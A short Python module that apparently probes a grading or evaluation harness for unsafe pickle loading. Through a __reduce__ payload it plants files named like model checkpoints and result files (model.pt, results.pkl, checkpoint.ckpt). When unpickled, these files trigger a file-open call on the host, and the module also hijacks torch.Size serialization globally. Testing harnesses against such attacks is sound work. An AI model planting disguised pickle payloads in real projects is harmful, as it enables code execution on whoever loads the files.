"""Leaves objects and files that run a program when somebody unpickles them (otter: code execution on the host)."""

import copyreg
import pickle

import torch


class Payload:
    def __reduce__(self):
        return (open, (FACTS["folder"] + "/line.py", "a"))


class Holder(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.payload = Payload()

    def get_extra_state(self):
        return Payload()

    def set_extra_state(self, state):
        pass


copyreg.pickle(torch.Size, lambda size: Payload().__reduce__())
for name in ("model.pt", "results.pkl", "checkpoint.ckpt", ".OTTER_LOG", "environment.pkl"):
    with open(name, "wb") as file:
        file.write(pickle.dumps(Payload()))


def in_shift(function, args, kwargs):
    function.payload = Payload()
    return [Holder(), Payload(), {"answer": Payload()}]
